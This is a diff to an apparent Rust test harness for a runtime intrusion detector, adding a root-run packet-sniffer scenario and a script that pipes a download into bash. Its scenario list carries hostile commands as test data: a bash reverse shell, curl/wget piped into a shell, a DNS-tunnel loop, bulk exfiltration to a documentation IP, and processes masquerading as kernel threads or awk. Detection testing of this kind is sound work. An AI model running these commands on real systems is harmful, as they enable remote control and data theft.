@@ -37,53 +37,62 @@ struct Scenario {
     marker: Option<&'static str>,
     /// Process rules are held to the latency target (0.5 s median).
     process_rule: bool,
+    /// Runs as root in the pod namespace (with CAP_NET_RAW, as a container keeping
+    /// Docker's default capabilities would), not as the victims' user.
+    root: bool,
 }
 
 const SCENARIOS: &[Scenario] = &[
     // exec
-    Scenario { family: "exec", name: "scratch-exec", attack: true, process_rule: true, marker: None,
+    Scenario { family: "exec", name: "scratch-exec", attack: true, process_rule: true, marker: None, root: false,
         script: "cp /usr/bin/sleep {shm}/agent && {shm}/agent 2" },
-    Scenario { family: "exec", name: "deleted-by-runner", attack: true, process_rule: true, marker: None,
+    Scenario { family: "exec", name: "deleted-by-runner", attack: true, process_rule: true, marker: None, root: false,
         script: "/usr/bin/python3 -c \"import os,shutil\nshutil.copy('/usr/bin/sleep','{dir}/x')\nfd=os.open('{dir}/x',os.O_RDONLY)\nos.unlink('{dir}/x')\nos.execve(fd,['x','2'],{})\"" },
-    Scenario { family: "exec", name: "scratch-relative", attack: true, process_rule: true, marker: None,
+    Scenario { family: "exec", name: "scratch-relative", attack: true, process_rule: true, marker: None, root: false,
         script: "cp /usr/bin/sleep {shm}/job && cd {shm} && ./job 2" },
-    Scenario { family: "exec", name: "replaced-shell-forks", attack: false, process_rule: true, marker: None,
+    Scenario { family: "exec", name: "replaced-shell-forks", attack: false, process_rule: true, marker: None, root: false,
         script: "cp /usr/bin/bash {dir}/bash && {dir}/bash -c 'sleep 0.3; rm -f {dir}/bash; cp /usr/bin/bash {dir}/bash; (sleep 1.5; true) & (sleep 1.5; true) & wait'" },
-    Scenario { family: "exec", name: "usr-bin-job", attack: false, process_rule: true, marker: None,
+    Scenario { family: "exec", name: "usr-bin-job", attack: false, process_rule: true, marker: None, root: false,
         script: "for i in 1 2 3 4 5; do /usr/bin/sleep 0.3; date >/dev/null; done" },
     // masquerade
-    Scenario { family: "masquerade", name: "kthread-retitle", attack: true, process_rule: true, marker: None,
+    Scenario { family: "masquerade", name: "kthread-retitle", attack: true, process_rule: true, marker: None, root: false,
         script: "bash -c \"exec -a '[kworker/1:2-events]' /usr/bin/python3 -c 'import ctypes,time; ctypes.CDLL(None).prctl(15, b\\\"[kworker/1:2-ev\\\", 0, 0, 0); time.sleep(2)'\"" },
-    Scenario { family: "masquerade", name: "renamed-binary", attack: true, process_rule: true, marker: None,
+    Scenario { family: "masquerade", name: "renamed-binary", attack: true, process_rule: true, marker: None, root: false,
         script: "cp {dir}/renamed {dir}/xmrig && bash -c 'exec -a awk {dir}/xmrig'" },
-    Scenario { family: "masquerade", name: "awk-alternative", attack: false, process_rule: true, marker: None,
+    Scenario { family: "masquerade", name: "awk-alternative", attack: false, process_rule: true, marker: None, root: false,
         script: "sleep 2 | awk '{print}'; echo x | nc -h >/dev/null 2>&1; true" },
-    Scenario { family: "masquerade", name: "python-versioned", attack: false, process_rule: true, marker: None,
+    Scenario { family: "masquerade", name: "python-versioned", attack: false, process_rule: true, marker: None, root: false,
         script: "/usr/bin/python3 -c 'import time; time.sleep(2)'" },
     // shell
-    Scenario { family: "shell", name: "download-into-shell", attack: true, process_rule: true, marker: None,
+    Scenario { family: "shell", name: "download-into-shell", attack: true, process_rule: true, marker: None, root: false,
         script: "curl -fsS {url} | sh" },
-    Scenario { family: "shell", name: "server-spawns-shell", attack: true, process_rule: true, marker: None,
+    Scenario { family: "shell", name: "server-spawns-shell", attack: true, process_rule: true, marker: None, root: false,
         script: "/usr/bin/python3 -c \"import socket,subprocess,time\ns=socket.socket(); s.bind(('127.0.0.1',0)); s.listen()\ntime.sleep(1)\nsubprocess.Popen('id >/dev/null; sleep 1.5', shell=True).wait()\"" },
-    Scenario { family: "shell", name: "reverse-shell", attack: true, process_rule: true, marker: None,
+    Scenario { family: "shell", name: "reverse-shell", attack: true, process_rule: true, marker: None, root: false,
         script: "bash -c 'bash -i >& /dev/tcp/203.0.113.90/4444 0>&1'" },
-    Scenario { family: "shell", name: "interactive-session", attack: true, process_rule: true, marker: None,
+    Scenario { family: "shell", name: "interactive-session", attack: true, process_rule: true, marker: None, root: false,
         script: "script -qc 'for i in $(seq 20); do sh -c \"sleep 0.05\"; done; sleep 1' /dev/null </dev/null >/dev/null" },
-    Scenario { family: "shell", name: "download-to-grep", attack: false, process_rule: true, marker: None,
+    Scenario { family: "shell", name: "download-to-grep", attack: false, process_rule: true, marker: None, root: false,
         script: "curl -fsS {url} | grep -q sleep; sleep 2" },
-    Scenario { family: "shell", name: "server-health-check", attack: false, process_rule: true, marker: None,
+    Scenario { family: "shell", name: "server-health-check", attack: false, process_rule: true, marker: None, root: false,
         script: "/usr/bin/python3 -c \"import socket,subprocess,time\ns=socket.socket(); s.bind(('127.0.0.1',0)); s.listen()\ntime.sleep(1)\nsubprocess.Popen('curl -fsm1 http://127.0.0.1:%d/healthz' % s.getsockname()[1], shell=True).wait(); time.sleep(1)\"" },
-    Scenario { family: "shell", name: "prefork-worker", attack: false, process_rule: true, marker: None,
+    Scenario { family: "shell", name: "prefork-worker", attack: false, process_rule: true, marker: None, root: false,
         script: "/usr/bin/python3 -c \"import os,socket,time\ns=socket.socket(); s.bind(('127.0.0.1',0)); s.listen()\ntime.sleep(1)\nif os.fork()==0:\n    time.sleep(1.5); os._exit(0)\nos.wait()\"" },
+    Scenario { family: "shell", name: "script-pipes-download-into-shell", attack: true, process_rule: true, marker: None, root: false,
+        script: "printf 'wget -qO- {url} | bash\\n' > {dir}/setup.sh && sh {dir}/setup.sh" },
+    Scenario { family: "shell", name: "file-piped-into-shell", attack: false, process_rule: true, marker: None, root: false,
+        script: "printf 'cat /etc/hostname >/dev/null; sleep 1.5\\n' > {dir}/local.sh && cat {dir}/local.sh | sh" },
     // network
-    Scenario { family: "network", name: "dns-tunnel", attack: true, process_rule: false, marker: Some("203.0.113.53:53"),
+    Scenario { family: "network", name: "dns-tunnel", attack: true, process_rule: false, marker: Some("203.0.113.53:53"), root: false,
         script: "/usr/bin/python3 -c \"import socket,time\nfor i in range(150):\n    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect(('203.0.113.53',53)); s.send(b'q'); s.settimeout(1); s.recv(64); s.close(); time.sleep(0.01)\"" },
-    Scenario { family: "network", name: "dns-cluster-resolver", attack: false, process_rule: false, marker: Some("10.96.0.10:53"),
+    Scenario { family: "network", name: "dns-cluster-resolver", attack: false, process_rule: false, marker: Some("10.96.0.10:53"), root: false,
         script: "/usr/bin/python3 -c \"import socket,time\nfor i in range(150):\n    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect(('10.96.0.10',53)); s.send(b'q'); s.settimeout(1); s.recv(64); s.close(); time.sleep(0.01)\"" },
-    Scenario { family: "network", name: "exfil-150MiB-7MiBps", attack: true, process_rule: false, marker: Some("203.0.113.80:443"),
+    Scenario { family: "network", name: "exfil-150MiB-7MiBps", attack: true, process_rule: false, marker: Some("203.0.113.80:443"), root: false,
         script: "/usr/bin/python3 -c \"import socket,time,sys\nc=socket.create_connection(('203.0.113.80',443))\nb=b'x'*(1<<20); t0=time.time()\nfor i in range(150):\n    c.sendall(b)\n    if i==99: print('crossed', time.time(), flush=True)\n    d=t0+(i+1)/7-time.time()\n    if d>0: time.sleep(d)\nc.close()\"" },
-    Scenario { family: "network", name: "upload-20MiB", attack: false, process_rule: false, marker: Some("203.0.113.81:443"),
+    Scenario { family: "network", name: "upload-20MiB", attack: false, process_rule: false, marker: Some("203.0.113.81:443"), root: false,
         script: "/usr/bin/python3 -c \"import socket\nc=socket.create_connection(('203.0.113.81',443))\nc.sendall(b'x'*(20<<20)); c.close()\"" },
+    Scenario { family: "network", name: "packet-sniffer", attack: true, process_rule: false, marker: Some("packet socket opened"), root: true,
+        script: "/usr/bin/python3 -c \"import socket,time\ns=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3))\ntime.sleep(7)\"" },
 ];
 
 struct Outcome {
@@ -325,7 +334,14 @@ fn run_mode(collector_user: &str) -> anyhow::Result<Vec<(usize, Outcome)>> {
             .replace("{shm}", &shm.path().display().to_string())
             .replace("{url}", "http://127.0.0.1:18080/x.sh");
         let started = Instant::now();
-        let mut child = in_pod_as(USER, USER)
+        let mut runner = if s.root {
+            let mut c = Command::new("ip");
+            c.args(["netns", "exec", POD]);
+            c
+        } else {
+            in_pod_as(USER, USER)
+        };
+        let mut child = runner
             .args(["sh", "-c", &script])
             .current_dir(dir.path())
             .stdout(Stdio::piped())
